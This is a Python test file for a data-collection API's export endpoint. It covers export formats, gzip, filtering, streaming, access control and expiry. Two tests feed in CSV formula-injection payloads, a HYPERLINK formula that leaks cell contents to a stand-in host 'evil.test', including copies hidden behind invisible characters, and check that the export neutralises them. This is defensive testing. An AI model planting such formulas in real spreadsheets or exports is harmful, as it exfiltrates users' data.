"""``GET /collections/{id}/export`` on a real stack (API, workers, the test site, the database):
what a client downloads is the results endpoint's results, in each format, streamed, and only
its own collection's, within the download window."""

from __future__ import annotations

import csv
import gzip
import io
import json
import uuid
from collections.abc import Iterator
from datetime import timedelta

import pytest

from storage import collection_results, collection_store, collections
from storage.collection_store import PageOutcome
from storage.models import CollectionStatus
from tests.conftest import Customer, new_customer
from tests.support.collection_stack import Stack, all_results, wait_final
from tests.support.waits import wait_until

RETENTION = timedelta(days=7)


@pytest.fixture(scope="module")
def stack(tmp_path_factory, sqlite_url, site) -> Iterator[Stack]:
    stack = Stack(tmp_path_factory.mktemp("export"), sqlite_url, site, workers=1)
    yield stack
    stack.close()


def customer(stack: Stack, credits: int = 100) -> Customer:
    return new_customer(stack.app, credits=credits, plan="standard")


#: Exports a test has read: closed when it starts the next one, as a client's connection
#: ends (an account streams two exports at once at most).
_READ: list = []


def export(who: Customer, collection_id: str, fmt: str, **query: str):
    while _READ:
        _READ.pop().close()
    answer = who.get(f"/collections/{collection_id}/export",
                     query_string={"format": fmt, **query})
    _READ.append(answer)
    return answer


def collect(who: Customer, body: dict) -> str:
    answer = who.post("/collections", body)
    assert answer.status_code == 202, answer.get_json()
    collection_id = answer.get_json()["id"]
    assert wait_final(who, collection_id)["status"] == "completed"
    return collection_id


def stored(stack: Stack, who: Customer, outcomes: list[PageOutcome], *, extract: str = "page",
           retention: timedelta = RETENTION) -> str:
    """A finished collection of ``outcomes``, written through storage as a worker writes
    them (no crawl: the data is whatever a test needs)."""
    db = stack.app.extensions["webdata.db"]
    collection_id = collections.create(db, account_id=who.account_id, mode="batch",
                                       extract=extract, spec={"urls": []}, max_running=5).id
    for start in range(0, len(outcomes), 500):
        collection_store.store(db, collection_id, outcomes[start:start + 500])
    collections.finish(db, collection_id, CollectionStatus.COMPLETED, retention=retention)
    return collection_id


def outcome(n: int, data: dict | None = None) -> PageOutcome:
    url = f"http://stored.test/{n}"
    return PageOutcome(key=collection_results.page_key(url), url=url, status="succeeded",
                       final_url=url, status_code=200, fetched_at="2026-11-23T04:30:00Z",
                       data=data if data is not None else {"title": f"page {n}", "text": "x",
                                                           "language": "en", "links": [],
                                                           "metadata": None})


def rows(answer) -> list[list[str]]:
    return list(csv.reader(io.StringIO(answer.get_data(as_text=True), newline="")))


@pytest.fixture(scope="module")
def batch(stack, site) -> tuple[Customer, str]:
    """A crawled batch: one page, one 404, one page robots.txt disallows."""
    who = customer(stack)
    urls = [f"{site}/article", f"{site}/missing", f"{site}/private/export"]
    return who, collect(who, {"mode": "batch", "urls": urls, "extract": "page"})


def test_each_format_is_the_results_endpoint_results(batch):
    who, collection_id = batch
    results = all_results(who, collection_id, limit=100)
    assert len(results) == 3
    as_json = export(who, collection_id, "json")
    assert as_json.status_code == 200 and as_json.is_streamed
    assert as_json.headers["Content-Type"] == "application/json"
    assert as_json.headers["Content-Disposition"] == (
        f'attachment; filename="{collection_id}.json"')
    assert json.loads(as_json.get_data()) == results
    lines = export(who, collection_id, "jsonl")
    assert lines.headers["Content-Type"] == "application/x-ndjson"
    assert [json.loads(line) for line in lines.get_data(as_text=True).splitlines()] == results
    table = export(who, collection_id, "csv")
    assert table.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert f"{collection_id}.csv" in table.headers["Content-Disposition"]
    header, *pages = rows(table)
    assert header == ["url", "final_url", "status", "status_code", "fetched_at", "error",
                      "error_message", "title", "text", "language", "links", "metadata"]
    for page, result in zip(pages, results, strict=True):
        cells = dict(zip(header, page, strict=True))
        assert cells["url"] == result["url"] and cells["status"] == result["status"]
        data = result["data"] or {}
        assert cells["title"] == (data.get("title") or "")
        assert json.loads(cells["links"] or "null") == data.get("links")
        assert json.loads(cells["metadata"] or "null") == data.get("metadata")
        assert cells["error"] == ((result["error"] or {}).get("error") or "")


def test_gzip_when_the_client_accepts_it(batch):
    who, collection_id = batch
    plain = export(who, collection_id, "csv")
    packed = who.client.get(f"/api/service/v1/collections/{collection_id}/export?format=csv",
                            headers={**who.headers, "Accept-Encoding": "gzip, deflate"})
    assert packed.headers["Content-Encoding"] == "gzip" and packed.is_streamed
    assert "Accept-Encoding" in packed.headers["Vary"]
    assert gzip.decompress(packed.get_data()) == plain.get_data()
    assert "Content-Encoding" not in plain.headers
    refused = who.client.get(f"/api/service/v1/collections/{collection_id}/export?format=json",
                             headers={**who.headers, "Accept-Encoding": "gzip;q=0, br"})
    assert "Content-Encoding" not in refused.headers


def test_status_and_fields_filter_like_the_results_endpoint(batch):
    who, collection_id = batch
    failed = json.loads(export(who, collection_id, "json", status="failed").get_data())
    assert failed == all_results(who, collection_id, status="failed")
    assert len(failed) == 2 and {r["status"] for r in failed} == {"failed"}
    fields = "data.title,url,error"
    picked = json.loads(export(who, collection_id, "json", fields=fields).get_data())
    assert picked == all_results(who, collection_id, fields=fields)
    assert all(list(result) == ["data", "url", "error"] for result in picked)
    assert any(result["data"] == {"title": "Tide tables of the Thames estuary"}
               for result in picked)
    header, *pages = rows(export(who, collection_id, "csv", fields=fields, status="succeeded"))
    assert header == ["title", "url", "error", "error_message"] and len(pages) == 1
    for path in ("export?format=csv&", "results?"):
        bad = who.get(f"/collections/{collection_id}/{path}fields=url,title,data.products")
        assert bad.status_code == 422, path
        assert bad.get_json()["error"] == "validation_error"
        assert "title, data.products" in bad.get_json()["errors"]["fields"][0]
    bad = export(who, collection_id, "xml")
    assert (bad.status_code, list(bad.get_json()["errors"])) == (422, ["format"])
    assert who.get(f"/collections/{collection_id}/export").status_code == 422


@pytest.mark.parametrize(("extract", "page", "nested"), [
    ("contacts", "contact", ["emails", "phones", "social_links", "organization",
                             "suggested_pages"]),
    ("products", "product", ["products"]),
])
def test_each_extract_has_its_own_csv_columns(stack, site, extract, page, nested):
    who = customer(stack)
    collection_id = collect(who, {"mode": "batch", "urls": [f"{site}/{page}"],
                                  "extract": extract})
    [result] = all_results(who, collection_id)
    header, cells = rows(export(who, collection_id, "csv"))
    assert header[7:] == nested
    for column, cell in zip(header[7:], cells[7:], strict=True):
        assert json.loads(cell) == result["data"][column]  # nested values as JSON text
    assert result["data"][nested[0]]  # the page has some


def test_formula_cells_are_neutralised_in_the_csv_only(stack):
    who = customer(stack)
    hostile = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
    data = {"title": hostile, "text": "+1 555", "language": "@en", "links": [],
            "metadata": {"description": "-x"}}
    collection_id = stored(stack, who, [outcome(1, data)])
    header, cells = rows(export(who, collection_id, "csv"))
    row = dict(zip(header, cells, strict=True))
    assert (row["title"], row["text"], row["language"]) == ("'" + hostile, "'+1 555", "'@en")
    assert json.loads(row["metadata"]) == {"description": "-x"}
    [result] = json.loads(export(who, collection_id, "json").get_data())
    assert result["data"]["title"] == hostile  # JSON carries the data as it is


def test_formulas_behind_invisible_characters_are_neutralised_in_the_csv(stack):
    """A zero-width space, a joiner, a word joiner, a byte order mark or NBSP in front of the
    formula: a spreadsheet may drop them and run it all the same."""
    who = customer(stack)
    prefixes = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\xa0", "\u200b \ufeff"]
    hostile = [f'{prefix}=HYPERLINK("http://evil.test/?leak="&A1,"Click")' for prefix in prefixes]
    collection_id = stored(stack, who, [
        outcome(n, {"title": text, "text": f"{text[0]}@SUM(1+1)", "language": "en",
                    "links": [], "metadata": None}) for n, text in enumerate(hostile)])
    header, *table = rows(export(who, collection_id, "csv"))
    cells = [dict(zip(header, line, strict=True)) for line in table]
    assert [row["title"] for row in cells] == ["'" + text for text in hostile]
    assert [row["text"] for row in cells] == [f"'{text[0]}@SUM(1+1)" for text in hostile]


def test_a_large_export_streams_every_row(stack):
    who = customer(stack, credits=5000)
    count = 3000
    collection_id = stored(stack, who, [outcome(n) for n in range(count)])
    answer = export(who, collection_id, "jsonl")
    assert answer.is_streamed
    chunks = list(answer.response)  # the body, chunk by chunk as the server sends it
    answer.close()
    assert len(chunks) > count // 500  # one per batch of rows, never the whole file at once
    lines = b"".join(chunks).decode().splitlines()
    assert len(lines) == count
    assert [json.loads(line)["url"] for line in lines[:2]] == [outcome(0).url, outcome(1).url]
    table = rows(export(who, collection_id, "csv", fields="url"))
    assert len(table) == count + 1


def test_another_account_or_an_expired_collection(stack, batch):
    owner, collection_id = batch
    other = customer(stack)
    for fmt in ("json", "csv"):
        answer = export(other, collection_id, fmt)
        assert (answer.status_code, answer.get_json()["error"]) == (404, "not_found")
    unknown = export(owner, f"col_{uuid.uuid4().hex[:24]}", "json")
    assert unknown.status_code == 404
    gone = stored(stack, owner, [outcome(1)], retention=timedelta(seconds=-1))
    answer = export(owner, gone, "csv")
    assert (answer.status_code, answer.get_json()["error"]) == (410, "expired")
    assert owner.get(f"/collections/{gone}/results").status_code == 410


def test_export_is_free_and_writes_no_history(batch):
    who, collection_id = batch
    balance, history = who.balance(), who.activity()
    assert export(who, collection_id, "csv").status_code == 200
    assert export(who, collection_id, "xml").status_code == 422
    assert export(who, "col_nope", "json").status_code == 404
    assert who.balance() == balance and who.activity() == history


def test_a_running_collection_exports_what_is_done_so_far(stack, site):
    who = customer(stack)
    urls = [f"{site}/slow/export{n}?ms=400" for n in range(30)]
    answer = who.post("/collections", {"mode": "batch", "urls": urls})
    collection_id = answer.get_json()["id"]

    def some_done() -> bool:
        body = who.get(f"/collections/{collection_id}").get_json()
        return body["status"] == "running" and body["progress"]["done"] >= 1

    wait_until(some_done, "the first pages", pause=0.1)
    running = export(who, collection_id, "jsonl")
    assert running.status_code == 200
    so_far = running.get_data(as_text=True).splitlines()
    assert 1 <= len(so_far) < 30
    assert who.post(f"/collections/{collection_id}/cancel", {}).status_code == 200
    final = json.loads(export(who, collection_id, "json").get_data())
    assert [json.loads(line) for line in so_far] == final[:len(so_far)]
